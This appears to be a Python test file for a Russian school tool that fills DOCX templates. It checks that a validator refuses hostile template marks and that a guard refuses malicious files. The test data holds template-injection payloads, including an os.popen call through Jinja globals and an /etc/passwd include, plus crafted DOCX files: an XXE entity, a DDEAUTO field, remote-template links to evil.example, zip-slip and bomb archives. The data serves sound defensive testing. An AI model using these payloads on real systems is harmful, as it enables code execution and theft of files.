"""A template is a stranger's file: what it may not do is refused, and what it may do still works."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document

from nastavnik.core.errors import Refusal
from nastavnik.documents.drawing import apart
from nastavnik.documents.drawing.apart import check_apart, render_apart
from nastavnik.documents.drawing.checking import check
from nastavnik.documents.drawing.guard import MAX_FILE, guard
from nastavnik.documents.drawing.merge import BLANK, fill, render
from nastavnik.documents.drawing.readback import paragraphs

VARIABLES = {
    "title": "заголовок",
    "group": {"name": "имя"},
    "rows": [{"name": "имя", "parts": [{"text": "текст"}]}],
}
FACTS = {"title": "О парах", "group": {"name": "Группа"}, "rows": [{"name": "А", "parts": [{"text": "Б"}]}]}


def template(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(file: bytes, wanted: dict[str, bytes | None]) -> bytes:
    """The same file with some parts replaced, added or (None) taken out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(file)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename not in wanted:
                new.writestr(info, old.read(info))
        for name, data in wanted.items():
            if data is not None:
                new.writestr(name, data)
    return out.getvalue()


def part(file: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(file)) as box:
        return box.read(name)


GOOD = (
    "{{ title }}",
    "{{ title | upper }}",
    "{{ group.name }}",
    "{% for row in rows %}{{ loop.index }}{{ row.name }}{% for p in row.parts %}{{ p.text }}{% endfor %}{% endfor %}",
    "{% if title == 'О парах' and not group.name %}да{% else %}нет{% endif %}",
    "{{ title | default('—') }}",
)
HOSTILE = (
    "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "{{ title.__class__ }}",
    "{{ title.__class__.__mro__ }}",
    "{{ ''['__class__'] }}",
    "{{ title['upper']() }}",
    "{{ title.upper() }}",
    "{{ rows.clear() }}",
    "{{ title | attr('__class__') }}",
    "{{ title | map('upper') }}",
    "{{ title | format(1) }}",
    "{{ 7 * 7 }}",
    "{{ 'a' ~ 'b' }}",
    "{{ 9 ** 99999999 }}",
    "{{ [1, 2] }}",
    "{{ {'a': 1} }}",
    "{{ range(90000) }}",
    "{% for a in range(90000) %}x{% endfor %}",
    "{% for a in rows %}{% for b in rows %}x{% endfor %}{% endfor %}",
    "{% for a in rows %}{% for b in a.parts %}{% for c in b.text %}x{% endfor %}{% endfor %}{% endfor %}",
    "{% for a in rows recursive %}x{% endfor %}",
    "{% for loop in rows %}x{% endfor %}",
    "{% set x = 1 %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{% macro m() %}x{% endmacro %}",
    "{% block b %}x{% endblock %}",
    "{% call m() %}x{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% with x = 1 %}x{% endwith %}",
    "{% autoescape false %}{{ title }}{% endautoescape %}",
    "{{ self }}",
    "{{ config }}",
    "{{ lipsum }}",
    "{{ unknown }}",
    "{{ group.secret }}",
    "{{ rows }}",
    "{% for a in title %}x{% endfor %}",
    "{{ title is defined }}",
    "{{ title if title else 1 }}",
    "{{ title[0:1] }}",
    "{{ title",
    "{% if title %}",
    "{{r title }}",
    "{% colspan title %}",
)


@pytest.mark.parametrize("mark", GOOD)
def test_an_honest_mark_is_accepted(mark: str) -> None:
    assert check(template("Начало", mark), VARIABLES) == []


@pytest.mark.parametrize("mark", HOSTILE)
def test_a_hostile_or_unknown_mark_is_refused_with_its_place(mark: str) -> None:
    problems = check(template("Начало", mark), VARIABLES)
    assert problems
    assert all(one.text and one.place for one in problems)


def test_the_place_of_a_problem_is_its_paragraph() -> None:
    [problem] = check(template("Первый", "Второй {{ secret }}", "Третий"), VARIABLES)
    assert problem.place == "Текст: «Второй {{ secret }}»"
    assert problem.text == "в этом документе нет «secret»"


def test_a_hostile_mark_in_a_header_is_refused() -> None:
    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{ title.__class__ }}"
    out = io.BytesIO()
    document.save(out)
    assert [one.place for one in check(out.getvalue(), VARIABLES)] == ["Колонтитул: «{{ title.__class__ }}»"]


def test_an_unchecked_template_reaches_nothing_but_the_facts() -> None:
    drawn = fill(template("{{ title.upper }}|{{ rows.append }}|{{ secret.key }}"), FACTS)
    assert paragraphs(drawn.docx) == [f"{BLANK}|{BLANK}|{BLANK}"]
    assert drawn.empty == ("upper", "append", "secret.key")


def test_facts_are_words_and_never_objects() -> None:
    with pytest.raises(TypeError, match="group"):
        render(template("{{ title }}"), {"group": object()})


def test_a_word_with_its_own_escaping_is_escaped_all_the_same() -> None:
    class Sly(str):
        def __html__(self) -> str:
            return "</w:t><w:t>пробой"

    assert paragraphs(render(template("{{ title }}"), {"title": Sly("честно")})) == ["честно"]


PLAIN = template("{{ title }}")


def _relation(kind: str, target: str) -> bytes:
    name = "word/_rels/document.xml.rels"
    link = (
        '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/>'
    )
    new = part(PLAIN, name).replace(b"</Relationships>", link.encode() + b"</Relationships>")
    return changed(PLAIN, {name: new})


def _inside(xml: str) -> bytes:
    body = part(PLAIN, "word/document.xml")
    return changed(
        PLAIN,
        {"word/document.xml": body.replace(b"<w:body>", b"<w:body>" + xml.encode())},
    )


FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
BAD_FILES = {
    "not a zip": b"hello",
    "empty": b"",
    "encrypted": b"\xd0\xcf\x11\xe0" + b"\0" * 600,
    "too big": b"PK" + b"\0" * MAX_FILE,
    "bomb": changed(PLAIN, {"word/media/x": b"x" * (21 * 2**20)}),
    "macros": changed(PLAIN, {"word/vbaProject.bin": b"x"}),
    "ole": changed(PLAIN, {"word/embeddings/oleObject1.bin": b"x"}),
    "no document": changed(PLAIN, {"word/document.xml": None}),
    "way out": changed(PLAIN, {"../evil.xml": b"<a/>"}),
    "remote template": _relation("attachedTemplate", "http://evil.example/t.dotm"),
    "remote picture": _relation("image", "http://evil.example/p.png"),
    "share of a network": _relation("hyperlink", "file://evil.example/share"),
    "entity": changed(
        PLAIN, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'}
    ),
    "dde": _inside(FIELD.format("DDEAUTO c:\\\\x")),
    "include": _inside(FIELD.format("INCLUDETEXT x")),
    "macro kind": changed(
        PLAIN, {"[Content_Types].xml": part(PLAIN, "[Content_Types].xml") + b"<!-- macroEnabled -->"}
    ),
}


@pytest.mark.parametrize("name", BAD_FILES)
def test_a_dangerous_file_is_refused_in_russian(name: str) -> None:
    with pytest.raises(Refusal, match=r"[А-я].*\."):
        guard(BAD_FILES[name])
    assert check(BAD_FILES[name], VARIABLES)


def test_a_link_to_the_school_site_is_no_danger() -> None:
    guard(_relation("hyperlink", "https://school14.zarechinsk.example/"))


def test_a_mark_that_would_swallow_its_neighbours_is_refused() -> None:
    alone = template("{%p if title %}", "Середина", "{%p endif %}")
    assert check(alone, VARIABLES) == []
    assert paragraphs(render(alone, FACTS)) == ["Середина"]
    [problem] = check(template("{%p if title %}", "Середина {%p endif %}"), VARIABLES)
    assert problem.place == "Текст: «Середина {%p endif %}»"


def test_the_child_process_gives_the_same_paper_and_the_same_problems() -> None:
    file = template("{{ title }} и {{ group.name }}")
    assert (
        paragraphs(render_apart(file, FACTS).docx) == paragraphs(render(file, FACTS)) == ["О парах и Группа"]
    )
    assert check_apart(file, VARIABLES) == []
    assert check_apart(template("{{ secret }}"), VARIABLES) == check(template("{{ secret }}"), VARIABLES)
    with pytest.raises(Refusal, match="запрещена"):
        render_apart(template("{{ 7 * 7 }}"), FACTS)


def test_a_template_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "CLOCK_SECONDS", 0.01)
    with pytest.raises(Refusal, match="слишком долго"):
        render_apart(template("{{ title }}"), FACTS)
